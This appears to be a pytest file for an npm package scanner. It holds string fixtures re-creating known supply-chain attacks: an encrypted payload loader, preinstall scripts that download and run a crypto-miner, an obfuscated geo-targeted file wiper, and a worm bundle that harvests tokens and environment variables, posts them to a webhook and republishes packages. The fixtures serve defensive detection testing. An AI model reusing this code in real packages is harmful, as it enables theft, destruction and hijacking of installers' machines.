"""npm packages modelled on public incidents score high or critical; an ordinary package does not.

The fixtures are inert re-creations of the published behaviour (no working payloads): the engine
only reads text, so realistic strings are enough.
"""

import base64
import json

from scans.engine import scan_archive

from .conftest import make_tgz, rule_names

BLOCKING = ("high", "critical")


def pkg(name, scripts=None, **extra):
    doc = {"name": name, "version": "1.0.0", "main": "index.js"}
    if scripts:
        doc["scripts"] = scripts
    doc.update(extra)
    return json.dumps(doc, indent=2)


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def test_flatmap_stream_encrypted_payload_loader(rules):
    # event-stream 3.3.6 pulled in flatmap-stream, whose minified index decrypted a payload with the
    # dependent package's description as key and compiled it as a module.
    loader = (
        "var Stream=require('stream').Stream;module.exports=function(e,n){var r=new Stream;return r};"
        "!function(){try{var r=require,t=process;var c=r('crypto');"
        "var k=t.env.npm_package_description;var d=c.createDecipher('aes256',t.env.npm_package_description);"
        "var u=d.update(n[0],'hex','utf8');u+=d.final('utf8');"
        "var m=new module.constructor;m.paths=module.paths;m._compile(u,'');m.exports(n[1])}catch(e){}}();"
    )
    data = make_tgz({"package.json": pkg("flatmap-stream"), "index.min.js": loader * 3, "index.js": "module.exports=require('./index.min.js')\n"})
    result = scan_archive(data, rules, filename="flatmap-stream-0.1.1.tgz", ecosystem="npm")
    assert result.verdict in BLOCKING
    assert result.phase(2).score >= 20
    assert any("createDecipher" in f.excerpt for f in result.findings)


def test_ua_parser_js_preinstall_miner_download(rules):
    files = {
        "package.json": pkg("ua-parser-js", {"preinstall": "start /B node preinstall.js & node preinstall.js"}),
        "preinstall.js": (
            "const { exec } = require('child_process');\n"
            "function terminalLinux(){ exec('/bin/bash preinstall.sh', (error, stdout, stderr) => {}); }\n"
            "var opsys = process.platform;\n"
            "if (opsys == 'linux') { terminalLinux(); } else if (opsys == 'win32') { exec('preinstall.bat'); }\n"
        ),
        "preinstall.sh": (
            "IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU\\|UA\\|BY\\|KZ')\n"
            "curl http://159.148.186.228/download/jsextension -o jsextension\n"
            "chmod +x jsextension\n"
            "./jsextension -k --tls --rig-id q -o pool.minexmr.com:443 -u 49ay9Aq2r3di --cpu-max-threads-hint=50 --background &>/dev/null &\n"
        ),
        "preinstall.bat": "curl http://159.148.186.228/download/jsextension.exe -o jsextension.exe\nstart /B .\\jsextension.exe\n",
        "src/ua-parser.js": "(function (window) { var UAParser = function () {}; window.UAParser = UAParser; })(this);\n",
    }
    result = scan_archive(make_tgz(files), rules, filename="ua-parser-js-0.7.29.tgz", ecosystem="npm")
    assert result.verdict == "critical"
    assert result.phase(1).score > 0
    assert any(f.file.endswith("preinstall.sh") and f.rule_id != "eng_hidden_file" for f in result.findings)
    assert any("minexmr" in f.excerpt or "jsextension" in f.excerpt for f in result.findings)


def test_node_ipc_geo_targeted_file_overwrite(rules):
    # peacenotwar / node-ipc 10.1.1: looks up the host's country, then overwrites files with a heart.
    geo_url = b64("https://api.ipgeolocation.io/ipgeo?apiKey=ae511e1627824a968aaaa758a5309154")
    payload = (
        'import u from "path";import a from "fs";import o from "https";\n'
        "setTimeout(function(){const t=Math.round(Math.random()*4);if(t>1){return}"
        f'const n=Buffer.from("{geo_url}","base64");'
        'o.get(n.toString("utf8"),function(t){t.on("data",function(t){'
        f'const n=Buffer.from("{b64("./")}","base64");const o=Buffer.from("{b64("../")}","base64");'
        f'const r=Buffer.from("{b64("../../")}","base64");const f=Buffer.from("{b64("/")}","base64");'
        f'const c=Buffer.from("{b64("country_name")}","base64");const e=Buffer.from("{b64("russia")}","base64");'
        f'const i=Buffer.from("{b64("belarus")}","base64");'
        "try{const s=JSON.parse(t.toString(\"utf8\"));const u=s[c.toString(\"utf8\")].toLowerCase();"
        "const a=u.includes(e.toString(\"utf8\"))||u.includes(i.toString(\"utf8\"));"
        "if(a){h(n.toString(\"utf8\"));h(o.toString(\"utf8\"));h(r.toString(\"utf8\"));h(f.toString(\"utf8\"))}}catch(t){}})})},"
        "Math.ceil(Math.random()*1e3));\n"
        'async function h(n="",o=""){if(!a.existsSync(n)){return}let r=[];try{r=a.readdirSync(n)}catch(t){}'
        f'const c=Buffer.from("{b64(chr(0x2764))}","base64");'
        "for(var e=0;e<r.length;e++){const i=u.join(n,r[e]);let t=null;try{t=a.lstatSync(i)}catch(t){continue}"
        "if(t.isDirectory()){h(i,o)}else if(i.indexOf(o)>=0){try{a.writeFile(i,c.toString(\"utf8\"),function(){})}catch(t){}}}}\n"
    )
    files = {
        "package.json": pkg("node-ipc"),
        "index.js": "import './dao/ssl-geospec.js';\nexport { default } from './services/IPC.js';\n",
        "dao/ssl-geospec.js": payload,
        "services/IPC.js": "export default class IPC { constructor() { this.config = {}; } }\n",
    }
    result = scan_archive(make_tgz(files), rules, filename="node-ipc-10.1.1.tgz", ecosystem="npm")
    assert result.verdict in BLOCKING
    rule_ids = result.rule_ids()
    assert "eng_encoded_payload" in rule_ids
    names = rule_names(result.findings)
    assert "geo_targeted" in names and "ip_geolocation_lookup" in names


def test_shai_hulud_self_replicating_worm(rules):
    # 2025 "Shai-Hulud": postinstall runs a bundled bundle.js that scans for secrets with
    # trufflehog, validates npm tokens, republishes the victim's packages and plants a workflow.
    bundle = (
        "'use strict';const{execSync:e}=require('child_process'),t=require('fs'),o=require('os');"
        "async function s(){const r=process.env.NPM_TOKEN||process.env.NODE_AUTH_TOKEN;"
        "const g=process.env.GITHUB_TOKEN;"
        "const w=await fetch('https://registry.npmjs.org/-/whoami',{headers:{Authorization:`Bearer ${r}`}});"
        "e('curl -sSfL https://github.com/trufflesecurity/trufflehog/releases/download/v3/trufflehog_linux_amd64.tar.gz -o /tmp/th.tgz');"
        "const f=e('trufflehog filesystem '+o.homedir()+' --json').toString();"
        "const d=JSON.stringify(process.env);"
        "t.mkdirSync('.github/workflows',{recursive:true});"
        "t.writeFileSync('.github/workflows/shai-hulud-workflow.yml',wf);"
        "await fetch('https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7',{method:'POST',body:d+f});"
        "e('npm publish --access public',{cwd:p})}s();"
    )
    files = {
        "package.json": pkg("@ctrl/tinycolor", {"postinstall": "node bundle.js"}),
        "bundle.js": bundle * 40,
        "index.js": "module.exports = require('./dist/tinycolor');\n",
        "dist/tinycolor.js": "function tinycolor(c){return {toHex(){return c}}}\nmodule.exports = tinycolor;\n",
    }
    result = scan_archive(make_tgz(files), rules, filename="tinycolor-4.1.1.tgz", ecosystem="npm")
    assert result.verdict == "critical"
    bundle_findings = [f for f in result.findings if f.file.endswith("bundle.js")]
    names = rule_names(bundle_findings)
    assert {"secret_scanner_tool", "npm_token_publish", "github_workflow_write", "env_dump_serialised"} <= names
    assert result.phase(1).score > 0 and result.phase(4).score > 0


def test_ordinary_npm_package_stays_clean_or_low(rules):
    minified = "!function(e){var t={};function n(r){if(t[r])return t[r].exports}" + "var a=e.x||{};" * 3000 + "eval(s)}([]);"
    files = {
        "package.json": pkg("tiny-lib", {"prepare": "tsc -p .", "test": "jest", "build": "tsc"},
                            dependencies={"ms": "^2.1.3"}),
        "index.js": (
            "'use strict';\nconst debug = process.env.NODE_ENV !== 'production';\n"
            "module.exports = function add(a, b) { return a + b; };\n"
        ),
        "lib/run.js": "const { spawn } = require('child_process');\nmodule.exports = (cmd, args) => spawn(cmd, args, { stdio: 'inherit' });\n",
        "dist/tiny-lib.min.js": minified,
        "README.md": "# tiny-lib\n\nInstall: `curl -fsSL https://get.example.com | sh` is NOT needed, use npm.\n",
        "test/add.test.js": "const add = require('..');\ntest('adds', () => expect(eval('add(1, 2)')).toBe(3));\n",
    }
    result = scan_archive(make_tgz(files), rules, filename="tiny-lib-1.0.0.tgz", ecosystem="npm")
    assert result.verdict in ("clean", "low"), result.phases
